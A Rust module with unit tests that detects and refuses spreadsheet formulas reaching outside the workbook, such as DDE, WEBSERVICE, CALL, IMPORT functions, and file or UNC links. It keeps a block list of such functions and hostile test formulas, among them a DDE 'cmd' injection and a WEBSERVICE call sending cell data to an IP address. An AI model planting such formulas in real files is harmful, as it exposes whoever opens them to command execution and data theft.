//! Formulas that reach outside the workbook. Their results are not facts of the sender, and a file that carries them
//! may have been made to attack whoever opens it.

/// Functions that start programs, load add-ins or fetch addresses.
const FUNCTIONS: [&str; 13] = [
    "DDE(",
    "DDEAUTO(",
    "WEBSERVICE(",
    "RTD(",
    "CALL(",
    "REGISTER(",
    "REGISTER.ID(",
    "EXEC(",
    "IMPORTXML(",
    "IMPORTDATA(",
    "IMPORTHTML(",
    "IMPORTFEED(",
    "IMPORTRANGE(",
];

/// The reason why a formula is refused, or `None` for an ordinary one.
pub(super) fn hostile(formula: &str) -> Option<String> {
    let (code, has_strings) = split_strings(formula);
    let upper: String = code.to_ascii_uppercase().split_whitespace().collect();
    let shown: String = formula.chars().take(60).collect();
    let refuse = |what: &str| {
        Some(format!(
            "公式「={shown}」{what}，已拒绝采用。请改成直接填写的值"
        ))
    };
    if let Some(name) = FUNCTIONS.iter().find(|name| calls(&upper, name)) {
        return refuse(&format!("调用了外部函数 {}", name.trim_end_matches('(')));
    }
    if calls(&upper, "HYPERLINK(") && !is_web_link(formula, has_strings) {
        return refuse("链接到文件或不明地址");
    }
    if is_dde(&code) {
        return refuse("会调用其他程序（DDE）");
    }
    if is_external(&code) || upper.contains("FILE:") {
        return refuse("引用了其他文件");
    }
    None
}

/// The formula with the content of its string literals taken out, and whether there were any.
fn split_strings(formula: &str) -> (String, bool) {
    let mut code = String::with_capacity(formula.len());
    let (mut inside, mut any) = (false, false);
    for character in formula.chars() {
        if character == '"' {
            inside = !inside;
            any = true;
        } else if !inside {
            code.push(character);
        }
    }
    (code, any)
}

/// Whether `name(` is called, and not as the end of a longer name.
fn calls(upper: &str, name: &str) -> bool {
    upper.match_indices(name).any(|(at, _)| {
        let before = upper[..at].chars().next_back();
        // Newer functions are stored with a prefix: _xlfn.WEBSERVICE(
        before.is_none_or(|c| !c.is_alphanumeric() && c != '_' && c != '.')
            || upper[..at].ends_with("_XLFN.")
            || upper[..at].ends_with("_XLWS.")
    })
}

/// A link whose address is written out and leads to a web page, a mail address or a place in the workbook.
fn is_web_link(formula: &str, has_strings: bool) -> bool {
    let lower = formula.to_ascii_lowercase();
    let Some(at) = lower.find("hyperlink(") else {
        return false;
    };
    let target = lower[at + "hyperlink(".len()..].trim_start();
    has_strings
        && ["\"http://", "\"https://", "\"mailto:", "\"#"]
            .iter()
            .any(|ok| target.starts_with(ok))
}

/// `program|topic!item`: a bar stands nowhere else but in quoted sheet names and in OpenDocument's constant arrays.
fn is_dde(code: &str) -> bool {
    let (mut quoted, mut in_array) = (false, false);
    for character in code.chars() {
        match character {
            '\'' => quoted = !quoted,
            '{' | '}' if !quoted => in_array = character == '{',
            '|' if !quoted && !in_array => return true,
            _ => {}
        }
    }
    false
}

/// Square brackets name columns of tables (`表1[金额]`), cells in OpenDocument (`[.A1]`), or another workbook
/// (`[1]Sheet1!A1`, `'C:\[a.xlsx]Sheet1'!A1`).
fn is_external(code: &str) -> bool {
    let mut depth = 0_i32;
    for (at, character) in code.char_indices() {
        match character {
            '[' => {
                if (depth == 0 && opens_book(code, at)) || names_file(&code[at + 1..]) {
                    return true;
                }
                depth += 1;
            }
            ']' => depth -= 1,
            _ => {}
        }
    }
    false
}

/// Whether the bracket at `at` holds the index of a linked workbook, or stands behind a folder.
fn opens_book(code: &str, at: usize) -> bool {
    let inside = code[at + 1..].split(']').next().unwrap_or("");
    let before = code[..at].chars().next_back();
    let after_name = before.is_some_and(|c| c.is_alphanumeric() || c == '_');
    let is_index = !inside.is_empty() && inside.bytes().all(|b| b.is_ascii_digit());
    (is_index && !after_name) || matches!(before, Some('\\' | '/'))
}

fn names_file(rest: &str) -> bool {
    let inside = rest.split(']').next().unwrap_or("").to_ascii_lowercase();
    [".xls", ".ods", ".csv", "file:", "http:", "https:"]
        .iter()
        .any(|mark| inside.contains(mark))
}

#[cfg(test)]
mod tests {
    use super::hostile;

    #[test]
    fn formulas_that_leave_the_workbook_are_refused() {
        for formula in [
            "WEBSERVICE(\"http://192.0.2.1/?\"&A1)",
            "_xlfn.WEBSERVICE(A1)",
            "cmd|'/c calc'!A0",
            "HYPERLINK(\"file:///c:/windows/system32/calc.exe\",\"点我\")",
            "HYPERLINK(A1&B1)",
            "HYPERLINK(\"\\\\192.0.2.1\\a\")",
            "[1]Sheet1!$A$1",
            "SUM('[2]表 一'!A1:A3)",
            "'C:\\账\\[去年.xlsx]台账'!B2",
            "DDE(\"soffice\",\"a\",\"b\")",
            "'file:///tmp/a.ods'#$Sheet1.A1",
            " call (\"a\")",
        ] {
            assert!(hostile(formula).is_some(), "{formula}");
        }
    }

    #[test]
    fn ordinary_formulas_pass() {
        for formula in [
            "SUM(A1:A3)",
            "IF(A1>0,\"a|b [1] file:\",B1)",
            "表1[金额]*2",
            "表1[2024]",
            "表1[[#This Row],[2024]]",
            "VLOOKUP(A1,Sheet2!$A$1:$B$9,2,0)",
            "HYPERLINK(\"https://example.com\",\"官网\")",
            "SUM([.A1:.B2])",
            "ADDED(1)",
            "MYCALL(1)",
            "SUM({1;2|3;4})",
            "'甲|乙'!A1",
        ] {
            assert_eq!(hostile(formula), None, "{formula}");
        }
    }
}
